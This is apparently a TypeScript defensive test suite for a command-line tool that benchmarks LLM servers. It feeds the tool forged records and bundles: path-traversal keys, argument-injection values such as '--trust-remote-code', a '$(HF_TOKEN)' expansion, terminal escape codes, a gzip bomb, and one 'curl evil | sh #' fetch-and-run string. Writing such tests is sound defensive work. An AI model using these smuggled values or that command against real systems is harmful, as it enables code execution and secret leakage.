import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { createTar } from 'nanotar';
import { recompute } from '../../../../batching/judge.js';
import { filled } from '../../../../cli/bundle/make.js';
import { MANIFEST } from '../../../../cli/bundle/manifest.js';
import { type BundleFiles, packed } from '../../../../cli/report/packed/container.js';
import type { ResultRecord } from '../../../../core/result/result.js';
import { warn } from '../../../../core/result/warnings.js';
import { UNCHANGED } from '../../../../core/techniques/index.js';
import { experimentOf } from '../../../support/experiments.js';
import { completeTrial } from '../../../support/records.js';
import { type Finished, RIDGE, startRidge } from '../../../support/ridge.js';
import { calmInput } from '../../../unit/judgement/trace.js';
import type { Check } from '../check.js';
import { type Ground, megabytes } from '../ground.js';
import { peakBytes } from '../process-figures.js';

/** Of a verified bundle, whatever it claims to hold: some 150 MB are those of `ridge` itself. */
const MOST_BYTES = 400e6;
const NOT_CONFIRMED = 6;
const REFUSED = 2;
const ESCAPE = '\u001b';

/** A row that a server of vLLM gave, but for what is forged. */
function served(forged: {
  readonly source?: string;
  readonly name?: string;
  readonly options?: Readonly<Record<string, string | number | null>>;
}): ResultRecord {
  const { source = 'hf:org/chat', name = 'chat', options = {} } = forged;
  const usual = experimentOf();
  return completeTrial({
    experiment: {
      ...usual,
      technique: UNCHANGED,
      model: { name, source, digest: ZERO, facts: null },
      runner: { kind: 'vllm', options: { maxSequences: 8, ...options } },
      device: 'cuda',
    },
  });
}

/** Records that hold all that their figures are computed from. */
function honest(count = 3): ResultRecord[] {
  return ['f16', 'q8_0', 'q4_k_m'].slice(0, count).map((quantization, position): ResultRecord => {
    const experiment = { ...experimentOf({ quantization }) };
    const base = completeTrial({ experiment, position });
    const { given, phases, tokenSeconds, samples } = calmInput({ experiment });
    return recompute({ ...base, given, phases, tokenSeconds, samples } as ResultRecord);
  });
}

const bundleOf = (records: readonly unknown[], document: string | null = null): BundleFiles =>
  filled([{ name: 'forged', lines: records.map((record) => JSON.stringify(record)), document, bodies: [] }])
    .files;

function written(ground: Ground, name: string, content: string | Buffer): string {
  const path = ground.path(name);
  writeFileSync(path, content);
  return path;
}

const results = (ground: Ground, ...records: readonly unknown[]) =>
  written(ground, 'results.jsonl', records.map((record) => `${JSON.stringify(record)}\n`).join(''));

async function ridge(ground: Ground, ...args: readonly string[]): Promise<Finished> {
  const cwd = ground.path('cwd');
  mkdirSync(cwd);
  return await startRidge(args, { cwd, env: { XDG_CACHE_HOME: join(ground.folder, 'cache') } }).ended;
}

const deployed = (ground: Ground, record: ResultRecord, as = 'command') =>
  ridge(ground, 'recommend', results(ground, record), '--as', as, '--slo', 'timeToFirstTokenSeconds<=9s');

const said = ({ code, stdout, stderr }: Finished) =>
  `exit ${code}: ${JSON.stringify((stdout.trim() || stderr.trim()).split('\n')[0]?.slice(0, 200))}`;

/** The words that bash hands to a program in place of vllm. */
function words(command: string): string[] {
  const line = command.trim().replace(/^(?:\w+=\S+ )*vllm /, 'printf "%s\\0" ');
  return execFileSync('bash', ['-c', line], { encoding: 'utf8' }).split('\0').slice(0, -1);
}

/** Shows what a command writes to a terminal. */
function onTerminal(...args: readonly string[]): string {
  const command = [process.execPath, RIDGE, ...args].map((word) => `'${word}'`).join(' ');
  return execFileSync('script', ['-qec', command, '/dev/null'], { encoding: 'utf8' });
}

export const fileChecks: readonly Check[] = [
  {
    name: 'file-mlflow',
    claim: 'an option of a record that is called like a path becomes no file, from results and from a bundle',
    run: async (ground) => {
      const [record] = honest(1);
      const out = join(ground.folder, 'out', 'mlruns');
      const options = { ...record!.experiment.runner.options, '../../../../../escaped': 'curl evil | sh #' };
      const forged = {
        ...record!,
        experiment: { ...record!.experiment, runner: { ...record!.experiment.runner, options } },
      };
      const file = results(ground, forged);
      const first = await ridge(ground, 'report', file, '--format', 'mlflow', '--output', out);
      let second = 'no bundle is made of it';
      try {
        const bundle = written(ground, 'x.bundle', packed(bundleOf([forged])));
        second = said(await ridge(ground, 'report', bundle, '--format', 'mlflow', '--output', out));
      } catch {
        // It was refused as a record.
      }
      const escaped = readdirSync(ground.folder, { recursive: true }).some((path) =>
        String(path).endsWith('escaped'),
      );
      return { holds: !escaped && first.code === REFUSED, figure: `${said(first)}; ${second}` };
    },
  },
  {
    name: 'file-again',
    claim: 'what a record calls its sweep leads no folder of `compare --again` elsewhere',
    run: async (ground) => {
      const [record] = honest(1);
      const experiment = {
        ...record!.experiment,
        model: { ...record!.experiment.model, source: 'builtin:tiny' },
        runner: { kind: 'fake', options: {} },
        device: 'cpu',
      };
      const forged = { ...record!, experiment, sweep: { ...record!.sweep, name: 'x/../../../escaped' } };
      const file = results(ground, forged);
      const ran = await ridge(ground, 'compare', file, file, '--again', '--within', '1s');
      const escaped = readdirSync(ground.folder).some((name) => name.startsWith('escaped'));
      return {
        holds: !escaped,
        figure: `${escaped ? 'a folder elsewhere' : 'no folder elsewhere'}; ${said(ran)}`,
      };
    },
  },
  {
    name: 'file-braces',
    claim: 'a source with braces is one word of a pasted command',
    run: async (ground) => {
      const ran = await deployed(ground, served({ source: 'hf:{org/model,--trust-remote-code}' }));
      const got = ran.code === 0 ? words(ran.stdout) : [];
      return { holds: got.length > 3 && !got.includes('--trust-remote-code'), figure: said(ran) };
    },
  },
  ...(
    [
      ['source', { source: '--trust-remote-code' }],
      ['name', { name: '--trust-remote-code' }],
      ['option', { options: { quantizationMethod: '--trust-remote-code' } }],
      ['repository', { source: 'hf:--hf-overrides=org/x' }],
    ] as const
  ).map(
    ([what, forged]): Check => ({
      name: `file-dash-${what}`,
      claim: `${what}: what begins with a dash is no option of a pasted command`,
      run: async (ground) => {
        const ran = await deployed(ground, served(forged));
        const got = ran.code === 0 ? words(ran.stdout) : [];
        return {
          holds:
            (got.length > 3 || ran.code === REFUSED) &&
            !got.some((word) => /^--(?:trust-remote-code|hf-overrides)/.test(word)),
          figure: said(ran),
        };
      },
    }),
  ),
  {
    name: 'file-variable',
    claim: 'a name is no variable of the container that a manifest starts',
    run: async (ground) => {
      const ran = await deployed(ground, served({ name: '$(HF_TOKEN)' }), 'kubernetes');
      return { holds: ran.code === 0 && !/(?<!\$)\$\(HF_TOKEN\)/.test(ran.stdout), figure: said(ran) };
    },
  },
  {
    name: 'file-version',
    claim: 'forged numbers whose manifest names another version are not said to be computed again',
    run: async (ground) => {
      const forged = honest().map((record) => {
        const { decodeTokensPerSecond: entry } = record.measurements;
        const value = 10 * (entry?.value ?? 1);
        const measurements = {
          ...record.measurements,
          decodeTokensPerSecond: { ...entry, value, mean: value, median: value },
        };
        return { ...record, measurements };
      });
      const ran = await ridge(
        ground,
        'bundle',
        'verify',
        written(ground, 'x.bundle', packed(ofVersion(bundleOf(forged), '0.0.9'))),
      );
      return { holds: ran.code === NOT_CONFIRMED && !/it holds/.test(ran.stdout), figure: said(ran) };
    },
  },
  {
    name: 'file-without-readings',
    claim: 'numbers whose raw readings were taken out are not said to hold',
    run: async (ground) => {
      const bare = honest().map(({ given: _, ...record }) => record);
      const ran = await ridge(
        ground,
        'bundle',
        'verify',
        written(ground, 'x.bundle', packed(bundleOf(bare))),
      );
      return { holds: ran.code === NOT_CONFIRMED, figure: said(ran) };
    },
  },
  {
    name: 'file-grade',
    claim: 'a faulty row whose warnings were taken out does not hold',
    run: async (ground) => {
      const [record] = honest(1);
      const faulty = recompute({
        ...record!,
        given: {
          ...record!.given!,
          warnings: [warn('most-failed', 'most requests failed')],
        },
      });
      const clean = { ...faulty, warnings: [], valid: true };
      const ran = await ridge(
        ground,
        'bundle',
        'verify',
        written(ground, 'x.bundle', packed(bundleOf([clean]))),
      );
      return { holds: !faulty.valid && ran.code === 1, figure: said(ran) };
    },
  },
  {
    name: 'file-body',
    claim: 'a record refers to no file of the bundler by the beginning of its digest',
    run: async (ground) => {
      const secret = '{"private":"prompt of another project"}\n';
      const hex = createHash('sha256').update(secret).digest('hex');
      const cache = join(ground.folder, 'cache', 'ridgepoint', 'calls');
      mkdirSync(cache, { recursive: true });
      writeFileSync(join(cache, `${hex}.jsonl`), secret);
      const [record] = honest(1);
      const graph = { ...GRAPH, calls: { ...GRAPH.calls, digest: 'sha256:' } };
      const output = ground.path('x.bundle');
      const ran = await ridge(ground, 'bundle', results(ground, { ...record!, graph }), '--output', output);
      const leaked =
        existsSync(output) && execFileSync('zcat', ['-f', output]).includes('prompt of another project');
      return { holds: !leaked && ran.code === REFUSED, figure: said(ran) };
    },
  },
  ...(['recommend', 'md', 'csv', 'json'] as const).map(
    (what): Check => ({
      name: `file-escapes-${what}`,
      claim: `${what}: no escape sequence of a record reaches a terminal`,
      run: async (ground) => {
        const record = served({ name: `chat${ESCAPE}[2K\u009b8m` });
        const file = results(ground, record, { ...served({}), trialId: 't.other', experimentId: 'x2' });
        const args =
          what === 'recommend' ? ['recommend', file, '--as', 'command'] : ['report', file, '--format', what];
        let text = '';
        try {
          text = onTerminal(...args);
        } catch (error) {
          text = String((error as { stdout?: string }).stdout ?? '');
        }
        const raw = text.includes(`${ESCAPE}[2K`) || text.includes('\u009b');
        return {
          holds: /chat|control characters/.test(text) && !raw,
          figure: raw ? 'it is there raw' : `${text.length} characters without one`,
        };
      },
    }),
  ),
  {
    name: 'file-stray-bytes',
    claim: 'a bundle whose tar has exactly 10,240 bytes is read whole, and no memory of the process with it',
    run: async (ground) => {
      // Three files and no end marker, as releases before packed them.
      const files = new Map(
        ['a', 'b', 'c'].map((name, i) => [name, Buffer.alloc(i === 0 ? 7680 : 512, name)]),
      );
      const attrs = { mode: '644', uid: 0, gid: 0, mtime: 0, user: '', group: '' };
      const tar = createTar(
        [...files].map(([name, data]) => ({ name, data })),
        { attrs },
      );
      const ran = await ridge(ground, 'bundle', 'verify', written(ground, 'x.bundle', gzipSync(tar)));
      const told = ran.stdout.trim();
      return {
        holds: tar.length === 10_240 && told === 'does not hold: manifest.json: it is not there',
        figure: JSON.stringify(told.slice(0, 160)),
      };
    },
  },
  {
    name: 'file-memory',
    claim: 'a bundle of 1 MB that unpacks to 1,000 MB is refused before it is unpacked',
    run: async (ground) => {
      const path = written(ground, 'x.bundle', gzipSync(Buffer.alloc(1e9), { level: 9 }));
      const running = startRidge(['bundle', 'verify', path]);
      let peak = 0;
      const watch = setInterval(() => {
        try {
          const seen = peakBytes(running.process.pid ?? 0);
          // What has ended and was not waited for has none.
          if (seen > peak) peak = seen;
        } catch {
          // It has ended.
        }
      }, 20);
      const ran = await running.ended.finally(() => clearInterval(watch));
      return {
        holds: peak > 0 && peak < MOST_BYTES && ran.code === 1,
        figure: `peak ${megabytes(peak)}; ${said(ran)}`,
      };
    },
  },
];

/** The same with another release in its manifest. */
function ofVersion(files: BundleFiles, version: string): BundleFiles {
  const manifest = JSON.parse(files.get(MANIFEST)!.toString());
  return new Map([...files, [MANIFEST, Buffer.from(JSON.stringify({ ...manifest, version }))]]);
}

const ZERO = `sha256:${'0'.repeat(64)}`;
/** The part of a record that refers to calls. */
const GRAPH = {
  graph: 'g',
  digest: ZERO,
  execution: 'graph',
  networkDelaySeconds: 0,
  sharing: '',
  seconds: 1,
  sitting: 0,
  applications: [],
  nodes: [],
  meanRequestsInFlight: null,
  path: [],
  calls: { schema: 'ridgepoint.dev/graph-call/v1', digest: ZERO, bytes: 1, items: 1 },
};
